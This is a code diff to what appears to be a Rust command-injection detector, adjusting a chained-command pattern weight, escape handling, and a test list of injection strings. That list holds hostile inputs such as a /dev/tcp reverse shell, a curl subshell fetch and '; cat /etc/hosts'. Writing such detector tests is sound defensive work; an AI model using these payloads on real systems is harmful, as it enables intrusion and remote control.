@@ -61,7 +61,7 @@ static PATTERNS: Patterns = Patterns::new(&[
     pattern(
         "command.chained",
         0.75,
-        0.0,
+        0.6,
         concat!("^[^\"'\\s]{0,24}[\"']\\s*(?:\\|\\|?|&&?|;)\\s*", words!(), "\\s+\\S"),
     ),
     pattern(
@@ -194,6 +194,7 @@ fn unquote(text: &[u8]) -> Option<Vec<u8>> {
     while at < text.len() {
         let rest = &text[at..];
         let (take, put): (usize, Option<u8>) = match rest {
+            [b'\\', b'n' | b'r', ..] if out.is_empty() => (2, Some(b'\n')),
             [b'\\', b'\n', ..] => (2, None),
             [b'\\', b'x', high, low, ..] if high.is_ascii_hexdigit() && low.is_ascii_hexdigit() => {
                 let code = percent::hex(&rest[2..4]).unwrap_or(0);
@@ -239,6 +240,7 @@ mod tests {
         for text in [
             "; cat /etc/hosts",
             "|id",
+            "\\nid|",
             "x && whoami",
             "a;id|",
             "$(curl http://a.example/x)",
@@ -254,11 +256,7 @@ mod tests {
             "%COMSPEC% /c dir",
             "bash -i >& /dev/tcp/192.0.2.1/80 0>&1",
             "\" || whoami",
-            "q=1;del%x &rem".trim_start_matches("q="),
-        ]
-        .iter()
-        .filter(|t| !t.contains("del%x"))
-        {
+        ] {
             assert!(score(&CommandInjection, text) >= 0.5, "{text}");
         }
     }
